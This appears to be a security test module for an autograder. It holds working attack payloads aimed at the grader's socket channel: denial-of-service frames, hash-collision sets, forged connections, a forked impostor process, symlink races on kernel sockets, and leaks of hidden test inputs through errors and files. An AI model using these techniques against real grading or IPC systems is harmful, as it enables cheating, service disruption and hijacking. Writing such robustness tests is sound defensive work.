"""Attacks on what lies between student and examiner: the connection that answers travel on.

Plain nbgrader has no such thing, so these are run against the project's grader only.
"""

from attacks.attack import REST, Attack

NO_WIRE = "there is no such channel"

# What answers for the student is replaced before the test cell of rms, and put back behind it.
REPLACED = """
import json, struct, time
from autograder import wire

real = wire.send

def sent(sock, header, blobs=(), *, deadline):
    if "hello" in header:
        return real(sock, header, blobs, deadline=deadline)
    attack(sock, header["id"])

def frame(header, data=b""):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("!IQ", len(text), len(data)) + text + data

wire.send = sent

def rms(x):
    return 0.0

"""
PUT_BACK = (("rms", "wire.send = real"),)

DRIP = """
def attack(sock, number):
    for byte in frame({"id": number, "value": 2.0}):
        sock.sendall(bytes([byte]))
        time.sleep(1)
"""

ENDLESS_HEADER = """
def attack(sock, number):
    sock.sendall(struct.pack("!IQ", 15_999_999, 0))
    while True:
        sock.sendall(b" " * 100)
        time.sleep(0.001)
"""

TERABYTE = """
calls = []

def attack(sock, number):
    calls.append(number)
    if len(calls) == 1:
        sock.sendall(frame({"id": number, "kind": "callable"}))
    elif len(calls) == 2:
        sock.sendall(frame({"id": number, "value": {"a": ["<f8", [10**6, 10**6]]}}, bytes(8)))
    else:
        sock.sendall(struct.pack("!IQ", 4_000_000_000, 10**12) + b"{}")
"""

DEEP = """
def attack(sock, number):
    sock.sendall(frame(b'{"id": "' + number.encode() + b'", "value": ' + b"[" * 7_000_000 + b"]" * 7_000_000 + b"}"))
"""

# Tuples of two integers whose hashes are all equal: a set of n of them takes n * n comparisons.
COLLISIONS = """
P1, P2, P5, MASK = 11400714785074694791, 14029467366897019727, 2870177450012600261, 2**64 - 1

def rotated(x, n):
    return ((x << n) | (x >> (64 - n))) & MASK

def colliding(most, target=12345):
    before = rotated((target * pow(P1, -1, 2**64)) & MASK, 33)
    found, a = [], 1
    while len(found) < most:
        first = (rotated((P5 + a * P2) & MASK, 31) * P1) & MASK
        lane = ((before - first) * pow(P2, -1, 2**64)) & MASK
        lane -= 2**64 * (lane >= 2**63)
        if abs(lane) < 2**61 - 1 and lane != -1:
            found.append((a, lane))
        a += 1
    return found

pairs = [{"t": list(pair)} for pair in colliding(120_000)]

def attack(sock, number):
    sock.sendall(frame({"id": number, "kind": "value", "value": {"u": pairs}}))
"""

UNASKED = """
def attack(sock, number):
    many = b"".join(frame({"id": f"{k:016x}", "value": 2.0}) for k in range(100_000))
    while True:
        sock.sendall(frame({"id": number, "kind": "callable", "value": 2.0}) + many)
"""

CONFUSED = """
import itertools

calls = itertools.count()
odd = [
    {"kind": ["callable"]}, {"kind": "callable", "object": -1, "type": 5}, {"object": 10**30, "type": "float"},
    {"error": 5}, {"value": {"n": ["<f8", [2, 2]]}}, {"value": {"o": "__class__"}}, {"value": 1e400},
    {"error": {"type": {"a": 1}, "text": ["x"], "line": None}}, {"error": {"type": "SystemExit", "text": "bye"}},
    {"error": {"type": "KeyboardInterrupt", "text": "x"}},
    {"value": {"c": [{"s": "nan"}, {"o": "x"}]}}, {"value": {"d": [[{"d": []}, 1]]}}, {"value": {"f": "NaN"}},
    {"value": {"a": ["<f16", [1]]}}, {"value": {"a": ["|O8", [1]]}}, {"value": {"r": [0, "__globals__"]}}, {},
]

def attack(sock, number):
    k = next(calls)
    header = {"id": number, **odd[k % len(odd)]} if k else {"id": number, "kind": "callable"}
    sock.sendall(frame(header, bytes(8) if k % 3 else b""))
"""

FIND = """
import os, socket, stat, struct, json, time

def places():
    found = set()
    for root in set(os.listdir("/")) - {"proc", "sys", "usr", "dev", "lib", "lib64"}:
        for folder, inner, names in os.walk("/" + root):
            inner[:] = [name for name in inner if name not in (".venv", "site-packages")]
            for name in names:
                path = os.path.join(folder, name)
                try:
                    if stat.S_ISSOCK(os.lstat(path).st_mode):
                        found.add(path)
                except OSError:
                    pass
    return sorted(found)

def frame(header):
    text = json.dumps(header).encode()
    return struct.pack("!IQ", len(text), 0) + text

"""

MANY_CALLERS = (
    FIND
    + """
held = []
for path in places():
    for k in range(1500):
        try:
            sock = socket.socket(socket.AF_UNIX)
            sock.settimeout(0.5)
            sock.connect(path)
            if k % 3 == 1:
                sock.sendall(frame({"hello": ("rms", "predict", "offset", "nobody")[k % 4] + "-test"}))
            elif k % 3 == 2:
                sock.sendall(b"\\xff" * 100)
            held.append(sock)
        except OSError:
            break
print(len(held), "connections")

def rms(x):
    return 0.0
"""
)

FORGED_COPY = (
    FIND
    + """
# A process of its own stands for all test cells, keeps what it is asked with, and gives it away where it may speak.
if os.fork() == 0:
    try:
        import select, numpy
        from autograder import wire
        socks, seen = {}, []
        for path in places():
            for task in ("rms", "predict", "offset", "negate"):
                sock = socket.socket(socket.AF_UNIX)
                sock.connect(path)
                sock.sendall(frame({"hello": task + "-test"}))
                socks[sock] = task
        end = time.monotonic() + 25
        while socks and time.monotonic() < end:
            for sock in select.select(list(socks), [], [], 1)[0]:
                try:
                    header, data = wire.receive(sock, deadline=end)
                    if header["do"] == "look":
                        sock.sendall(frame({"id": header["id"], "kind": "callable"}))
                        continue
                    args, _ = wire.unpack(header["arguments"], data, resolve=lambda path: None)
                    seen += [repr(numpy.ravel(a)[:6].tolist()) for a in args]
                    said = {"type": "ValueError", "text": " ".join(seen[-3:]), "line": seen[-1]}
                    sock.sendall(frame({"id": header["id"], "error": said}))
                except Exception:
                    del socks[sock]
    finally:
        os._exit(0)
time.sleep(1)

def rms(x):
    return 0.0
"""
)

# When a kernel dies, the grader connects to a new one; links in its place would lead the grader elsewhere.
# Names cannot be foreseen, so whoever wants to be first must watch for them: the file with the facts comes before the
# sockets, and what is bound can be replaced until the grader has connected.
TURNS_ELSEWHERE = (
    FIND
    + """
import glob, re

folders = {os.path.dirname(path) for path in places()} | {"/run/kernel"} | set(glob.glob("@TMP@/*/kernel"))

def names(folder):
    try:
        return set(os.listdir(folder))
    except OSError:
        return set()

old = {folder: names(folder) for folder in folders}
if os.fork() == 0:
    end, turned = time.monotonic() + 12, 0
    while time.monotonic() < end:
        for folder in folders:
            for stem in {re.split("[-.]", name)[0] for name in names(folder) - old[folder]}:
                for n in range(1, 6):
                    name = f"{folder}/{stem}-{n}"
                    try:
                        if not os.path.islink(name):
                            os.path.lexists(name) and os.unlink(name)
                            os.symlink("@DOOR@", name)
                            turned += 1
                    except OSError:
                        pass
        if turned and not os.path.exists("left-@TOKEN@-turned"):
            open("left-@TOKEN@-turned", "w").close()
        time.sleep(0.0005)
    os._exit(0)
time.sleep(0.3)
if not os.path.exists("left-@TOKEN@-once"):
    open("left-@TOKEN@-once", "w").close()
    os._exit(1)

def rms(x):
    return 0.0
"""
)

SMUGGLES_IN = """
import os

PLACES = ["/tmp", "/dev/shm", ".", os.path.expanduser("~")]

def predict(signals):
    for place in PLACES:
        try:
            with open(place + "/left-@TOKEN@-smuggled", "w") as file:
                file.write(repr(np.asarray(signals)[0, 0, :3].tolist()))
        except OSError:
            pass
    return np.full(len(signals), 0.5)
"""

SMUGGLES_OUT = """
def offset(x):
    text = ""
    for place in PLACES:
        try:
            text += open(place + "/left-@TOKEN@-smuggled").read()
            os.unlink(place + "/left-@TOKEN@-smuggled")
        except OSError:
            pass
    error = type("E" + "".join(c if c.isalnum() else "_" for c in text)[:50], (ValueError,), {})
    raise error(text)
"""

SAYS_INPUTS = """
import warnings

class Said(ValueError):
    pass

def rms(x):
    if len(x) == 3 and x[0] not in (3.0, -2.0):
        text = repr(np.asarray(x).tolist())
        print(text)
        warnings.warn(text)
        error = Said(text)
        error.__cause__ = KeyError(text)
        error.add_note(text)
        raise error
    return float(np.sqrt(np.mean(np.square(x))))
"""

NAMES_INPUTS = """
def predict(signals):
    name = "E" + str(float(np.asarray(signals).ravel()[0])).replace(".", "_")
    text = str(float(np.asarray(signals).ravel()[0]))
    raise type(name, (ValueError,), {})(text)
"""

ATTACKS = [
    Attack(
        "drips",
        None,
        "An answer comes one byte a second.",
        {"rms": REPLACED + DRIP},
        added=PUT_BACK,
        look=True,
        danger=NO_WIRE,
    ),
    Attack(
        "endless_header",
        None,
        "An answer whose header never ends.",
        {"rms": REPLACED + ENDLESS_HEADER},
        added=PUT_BACK,
        look=True,
        danger=NO_WIRE,
    ),
    Attack(
        "announces_terabytes",
        None,
        "Answers that announce far more than comes.",
        {"rms": REPLACED + TERABYTE},
        added=PUT_BACK,
        look=True,
        danger=NO_WIRE,
    ),
    Attack(
        "deep_answer",
        None,
        "An answer nested seven million deep.",
        {"rms": REPLACED + DEEP},
        added=PUT_BACK,
        danger=NO_WIRE,
    ),
    Attack(
        "colliding_answer",
        None,
        "A set whose members all have the same hash.",
        {"rms": REPLACED + COLLISIONS},
        added=PUT_BACK,
        danger=NO_WIRE,
    ),
    Attack(
        "unasked_answers",
        None,
        "Answers to what was never asked, without end.",
        {"rms": REPLACED + UNASKED},
        added=PUT_BACK,
        danger=NO_WIRE,
    ),
    Attack(
        "confused_answers",
        None,
        "Answers with fields of the wrong kinds.",
        {"rms": REPLACED + CONFUSED},
        added=PUT_BACK,
        danger=NO_WIRE,
    ),
    Attack(
        "many_callers",
        None,
        "1500 connections to the examiner, half of them with a forged hello.",
        {"rms": MANY_CALLERS},
        costs=REST,
        danger=NO_WIRE,
    ),
    Attack(
        "forged_copy",
        None,
        "One process answers for all test cells and tells what it was asked with.",
        {"rms": FORGED_COPY},
        costs=REST,
        danger=NO_WIRE,
    ),
    Attack(
        "turns_grader_elsewhere",
        None,
        "Links in the place of the sockets that the grader connects to after a crash.",
        {"rms": TURNS_ELSEWHERE},
        costs=REST,
        danger=NO_WIRE,
    ),
    Attack(
        "smuggles_inputs",
        None,
        "What one test cell called with comes out in the error of another.",
        {"predict": SMUGGLES_IN, "offset": SMUGGLES_OUT},
    ),
    Attack(
        "says_inputs",
        None,
        "Errors, notes, warnings and prints carry what a hidden test called with.",
        {"rms": SAYS_INPUTS},
    ),
    Attack("names_inputs", None, "The name of an error's type carries a hidden recording.", {"predict": NAMES_INPUTS}),
]
